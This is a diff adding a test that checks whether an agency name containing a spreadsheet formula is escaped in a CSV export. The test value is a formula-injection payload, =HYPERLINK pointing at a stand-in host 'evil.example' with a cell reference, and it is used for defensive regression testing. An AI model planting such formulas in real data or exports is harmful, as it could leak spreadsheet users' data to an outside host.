@@ -80,6 +80,15 @@ async def test_the_file_and_the_json_hide_the_same(cast: Cast) -> None:
     }
 
 
+async def test_the_name_of_an_agency_is_no_formula_in_the_file(cast: Cast) -> None:
+    await oversight(cast)
+    await Agency.filter(id=cast.agency.id).update(name='=HYPERLINK("//evil.example/"&B2)')
+    async with cast.client_as("vera") as client:
+        text = (await client.get("/desk/areas.csv")).text
+    names = [row["name"] for row in csv.DictReader(io.StringIO(text))]
+    assert '\'=HYPERLINK("//evil.example/"&B2)' in names
+
+
 async def test_a_country_opens_its_regions_and_a_region_neither_its_country_nor_its_neighbour(
     cast: Cast,
 ) -> None:
